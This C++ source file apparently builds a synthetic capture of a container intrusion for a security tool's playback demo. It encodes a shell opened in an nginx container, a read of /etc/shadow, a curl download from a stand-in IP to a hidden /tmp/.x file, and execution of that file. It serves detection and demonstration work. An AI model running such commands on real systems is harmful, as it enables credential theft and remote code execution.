#include "playback/demo_story.h"

#include "playback/script.h"

namespace gyr::playback {

namespace {

constexpr std::uint32_t kTerminal = 136 << 8; // /dev/pts/0
constexpr const char* kCgroup =
    "/system.slice/docker-4f1a7c02be9d55d0a8c3e1f6b7429d60183acf5e2d9b40c7a6e8f0135b9d2c74.scope";
constexpr const char* kMetadata =
    R"({"container":{"id":"4f1a7c02be9d","full_id":"4f1a7c02be9d55d0a8c3e1f6b7429d60183acf5e2d9b40c7a6e8f0135b9d2c74",)"
    R"("type":0,"name":"web","image":"nginx:1.27","imagerepo":"nginx","imagetag":"1.27","privileged":false}})";

} // namespace

Result<std::string> demo_capture() {
    Script story("web-1");
    story.process({.pid = 1, .sid = 1, .comm = "systemd", .exe = "/usr/lib/systemd/systemd"});
    story.process(
        {.pid = 700, .parent = 1, .sid = 700, .comm = "containerd-shim", .exe = "/usr/bin/containerd-shim-runc-v2"});
    story.process(
        {.pid = 741, .parent = 700, .sid = 741, .comm = "nginx", .exe = "/usr/sbin/nginx", .cgroup = kCgroup});
    story.process(
        {.pid = 902, .parent = 700, .sid = 700, .comm = "runc:[2:INIT]", .exe = "/usr/bin/runc", .cgroup = kCgroup});
    story.container(kMetadata);

    // docker exec -it web sh
    story.clone(902, 915);
    story.lead_session(915);
    story.exec(915, {.comm = "sh", .exe = "/bin/dash", .tty = kTerminal});
    story.pass(4'000'000'000);

    story.clone(915, 921);
    story.exec(921, {.comm = "cat", .exe = "/bin/cat", .arguments = {"/etc/shadow"}, .tty = kTerminal});
    story.open(921, "/etc/shadow", 3);
    story.close(921, 3);
    story.exit(921, 0);
    story.pass(9'000'000'000);

    story.clone(915, 930);
    story.exec(930, {.comm = "curl",
                     .exe = "/usr/bin/curl",
                     .arguments = {"-so", "/tmp/.x", "http://203.0.113.7/x"},
                     .tty = kTerminal});
    story.open(930, "/tmp/.x", 4, true, true);
    story.close(930, 4);
    story.exit(930, 0);
    story.pass(2'000'000'000);

    story.clone(915, 934);
    story.exec(934, {.comm = ".x", .exe = "/tmp/.x", .tty = kTerminal, .upper_layer = true});
    story.exit(934, 0);
    story.exit(915, 0);
    return story.finish();
}

} // namespace gyr::playback
